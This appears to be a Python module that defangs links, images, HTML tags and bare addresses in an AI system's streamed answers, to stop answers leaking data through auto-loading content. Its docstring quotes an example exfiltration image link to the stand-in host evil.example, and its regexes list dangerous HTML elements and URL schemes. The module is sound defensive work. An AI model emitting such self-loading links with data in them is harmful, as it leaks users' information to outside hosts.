"""Links: a policy that an operator may switch on, so that an answer cannot carry data out.

A page that shows an answer may load `![](https://evil.example/?q=what+the+evidence+says)` by itself (EchoLeak,
CVE-2025-32711), and a reader may click. What is a link is decided by whoever renders: Markdown in its dialects, raw
HTML, and libraries that make links of bare addresses. So nothing is parsed here; what all of them need to see a link
is taken apart, with a few characters more in the text and none less: `] (`, `] :`, `! [`, `< img`, `https[:]//`,
`evil[.]example/x`, `me[@]evil.example`. A registered name alone, such as README.md, stays: nobody can write data into
it. Code is not spared: pages draw Mermaid, SVG and HTML from code blocks, and load what those name (CVE-2025-54132).
"""

import re
from collections.abc import Collection, Iterator
from dataclasses import dataclass
from html import unescape
from typing import Literal

LinkPolicy = Literal["allow", "evidence", "none"]

MAX_BEHIND = 300  # characters of a word that has left in part and goes on: more than a host name has

# Nothing is taken apart before the first of these in a word, so what stands before it need not wait.
_STARTS = re.compile(r"[.:@<\[\]!&\\]")
_WORD = re.compile(r"\S+")


@dataclass(frozen=True, slots=True)
class _Change:
    """`text[start:end]` becomes `shown`."""

    start: int
    end: int
    shown: str


class Unlinker:
    """Takes the links in one text apart while it arrives, word by word.

    `feed` what arrives; `flush` where a sentence ends: what has been fed is then decided, and a word that goes on
    behind it is judged together with its beginning.
    """

    def __init__(self, kept: Collection[str] = ()) -> None:
        """`kept`: addresses that stay links, where they stand exactly as here and with nothing behind them."""
        longest_first = sorted(filter(None, kept), key=len, reverse=True)
        self._kept = re.compile("|".join(map(re.escape, longest_first))) if longest_first else None
        self._held = ""  # the word that is not complete, from the first character that may have to change
        self._behind = ""  # what of this word has left
        self._code = False

    def feed(self, text: str, *, code: bool = False) -> str:
        """What can leave. `code`: dots and numbers in brackets mean something else there."""
        self._code = code
        held = self._held + text
        complete = held[: _last_space(held)]
        self._held = held[len(complete) :]
        shown = self._words(complete) if complete else ""
        start = _STARTS.search(self._held)
        plain = self._held[: start.start()] if start else self._held
        if plain and not self._takes_apart(self._behind + plain, len(self._behind)):
            shown += plain
            self._leave(plain)
            self._held = self._held[len(plain) :]
        return shown

    def flush(self) -> str:
        """What is held, as if nothing followed."""
        held, self._held = self._held, ""
        return self._words(held) if held else ""

    def _words(self, text: str) -> str:
        shown: list[str] = []
        done = 0
        for word in _WORD.finditer(text):
            if word.start() > done:
                self._behind = ""
            shown += [text[done : word.start()], self._word(word[0])]
            done = word.end()
        if done < len(text):
            self._behind = ""
        return "".join(shown) + text[done:]

    def _word(self, word: str) -> str:
        behind = self._behind
        if not _STARTS.search(behind + word):
            self._leave(word)
            return word
        if self._takes_apart(behind + word, len(behind)):
            self._behind = word[-MAX_BEHIND:]
            return " " + _changed(word, self._changes(word), 0)
        shown = _changed(behind + word, self._changes(behind + word), len(behind))
        self._leave(word)
        return shown

    def _takes_apart(self, word: str, left: int) -> bool:
        """Whether what follows `word[:left]`, which has left, makes something of it that should not have."""
        if not _STARTS.search(word, 0, left):
            return False
        known = set(self._changes(word[:left]))
        return any(change.start < left and change not in known for change in self._changes(word))

    def _changes(self, word: str) -> list[_Change]:
        kept = list(_kept_places(self._kept, word)) if self._kept else []
        return [
            change
            for change in sorted(_changes(word, self._code), key=lambda change: change.start)
            if not any(start <= change.start < end for start, end in kept)
        ]

    def _leave(self, text: str) -> None:
        self._behind = (self._behind + text)[-MAX_BEHIND:]


class Unlinkers:
    """For texts beside the answer, such as reasoning, which flow as they come: nothing of them is held.

    A word that comes in pieces is taken apart where the next piece would make a link of it.
    """

    def __init__(self) -> None:
        self._texts: dict[tuple[int, str], Unlinker] = {}

    def passing(self, choice: int, name: str, text: str) -> str:
        """The next piece of the text of that name, without links."""
        unlinker = self._texts.setdefault((choice, name), Unlinker())
        return unlinker.feed(text) + unlinker.flush()


def _last_space(text: str) -> int:
    """Where the last word begins."""
    at = len(text)
    while at and not text[at - 1].isspace():
        at -= 1
    return at


def _changed(word: str, changes: list[_Change], left: int) -> str:
    """`word[left:]` with its changes."""
    parts: list[str] = []
    done = left
    for change in changes:
        if change.start >= done:
            parts += [word[done : change.start], change.shown]
            done = change.end
    return "".join(parts) + word[done:]


_TRAILING = re.compile(r"[.,;:!?)\]}>'\"*_~|。，；：！？）】」』”’»]{0,3}\Z")  # more could spell something


def _kept_places(kept: re.Pattern[str], word: str) -> Iterator[tuple[int, int]]:
    """Where an address may stay one: as the whole target of a link, or with nothing behind that a page would add."""
    for found in kept.finditer(word):
        start, end = found.span()
        if word.startswith("](", start - 2) and word.startswith(")", end) and not word[start - 3 : start - 2].isdigit():
            yield start - 2, end
        elif word.startswith("<", start - 1) and word.startswith(">", end):
            yield start - 1, end
        elif _TRAILING.match(word, end) and not word[start - 1 : start].isalnum():
            yield start, end


# Elements that need no attribute to do harm, or that change how the rest is read
_ELEMENTS = (
    "script|style|iframe|frame|frameset|object|embed|applet|base|link|meta|svg|math|template|noscript|textarea|title|"
    "xmp|plaintext|form|audio|video|picture|image|img|a|input|button|select|portal|noembed|noframes|head|html|body"
)
_ANYWHERE = re.compile(
    rf"""
      (?P<colon> :(?=//) | (?<=[A-Za-z0-9+.\-]{{2}}):(?=[/\\])                    # https://, https:\/\/, https:/
          | (?<=https):\Z | (?<=http):\Z
          | (?:(?<=javascript)|(?<=vbscript)|(?<=mailto)|(?<=xmpp)):(?=.)
          | (?<=data):(?=[\w.+\-]*[/;,]) )
    | (?P<bracket> \](?=[(:]) )                                                   # a link's target, a definition's
    | (?P<image> !(?=\[) )                                                        # loads by itself
    | (?P<tag> <(?=[A-Za-z/!?])(?!/?(?!(?:{_ELEMENTS})\b)[A-Za-z][\w.\-]*/?>)(?!/[A-Za-z][\w\-]*>) )
    | (?P<entity> &(?:\#[0-9]{{1,8}}|\#[xX][0-9a-fA-F]{{1,7}}|[A-Za-z]{{2,31}});? )
    | (?P<command> \\(?=(?:href|url|includegraphics|htmlData|htmlStyle|require)\b) ) # TeX, as pages draw it
    """,
    re.VERBOSE | re.IGNORECASE,
)
_NUMBERED = re.compile(r"\[(?=[^\[\]]*\d\][(:])|(?<=\d)\](?=[(:])")  # would be left looking like a citation of ours
_STRUCTURAL = frozenset(":/.@")  # of an address that is written with character references


def _changes(word: str, code: bool) -> Iterator[_Change]:
    for found in _ANYWHERE.finditer(word):
        start, end = found.span()
        match found.lastgroup:
            case "colon":
                yield _apart(word, start)
            case "entity":
                if not _STRUCTURAL.isdisjoint(unescape(found[0])):
                    yield _Change(start, start + 1, "& ")
            case "bracket" if not code and word[start - 1 : start].isdigit():
                pass  # below
            case _:
                yield _Change(start, end, f"{found[0]} ")
    if not code:
        for found in _NUMBERED.finditer(word):
            yield _Change(found.start(), found.end(), "" if found[0] == "[" else " ")
        for at in _AT.finditer(word):
            yield _apart(word, at.start())
    if (_SLASHED.search(word) if code else _is_address(word)) and "." in word:
        for dot in _DOT.finditer(word):
            yield _apart(word, dot.start())


def _apart(word: str, at: int) -> _Change:
    """The character there in brackets, as those do who write of addresses without meaning to link them."""
    links_brackets = word[at + 1 : at + 2] in _OPENS_TARGET or word[at - 1 : at] == "!"
    return _Change(at, at + 1, f"{word[at]} " if links_brackets else f"[{word[at]}]")


_OPENS_TARGET = frozenset(["(", "[", ":", ""])  # would make a link of brackets before it; or may yet follow
# Nearly any character is part of a name for linkify-it: soft hyphens, backquotes, zero-width spaces
_AT = re.compile(r"(?<=[\w.+\-;:&=$,])@(?=\S)")
_DOT = re.compile(r"(?<=\S)\.(?=\S)")
_INNER_DOT = re.compile(r"(?<=[^\s.])\.(?=[^\s.])")
# The ends of names that linkify-it, which most pages use, makes links of; and a few that others do
_ENDS = (
    "a[cdefgilmnoqrtuwxz]|b[abdefghijmnorstvwyz]|c[acdfghiklmnoruvwxyz]|d[ejkmoz]|e[cegrstu]|f[ijkmor]|"
    "g[abdefghilmnpqrstuwy]|h[kmnrtu]|i[delmnoqrst]|j[emop]|k[eghimnprwyz]|l[abcikrstuvy]|m[acdeghklmnopqrstuvwxyz]|"
    "n[acefgilopruz]|om|p[aefghklmnrstwy]|qa|r[eosuw]|s[abcdeghijklmnortuvxyz]|t[cdfghjklmnortvwz]|u[agksyz]|"
    "v[aceginu]|w[fs]|y[et]|z[amw]|xn--[a-z0-9-]+|biz|com|edu|gov|net|org|pro|web|xxx|aero|asia|coop|info|museum|name|"
    "shop|рф|app|dev|cloud|online|site|xyz|top|club|store|tech|live|space|website|link|click|icu|page|example|test|"
    "internal|local|localhost|invalid"
)
_NAME_ENDS = re.compile(rf"\.(?:{_ENDS})(?![A-Za-z0-9_\-])", re.IGNORECASE)
_SLASHED = re.compile(r"[/\\][/\\][^/]*\.")  # linkify-it makes links of //name.any/path too
_MEANT = re.compile(rf"{_SLASHED.pattern}|www\\?\.\S", re.IGNORECASE)
_GOES_ON = frozenset("/?#:\\")


def _is_address(word: str) -> bool:
    """Whether pages make a link of it that can say more than a registered name: a path, a question, a subdomain."""
    if "." not in word:
        return False
    if _MEANT.search(word):
        return True
    first = _INNER_DOT.search(word)
    return first is not None and any(
        found.start() > first.start() or word[found.end() : found.end() + 1] in _GOES_ON
        for found in _NAME_ENDS.finditer(word, first.start())
    )
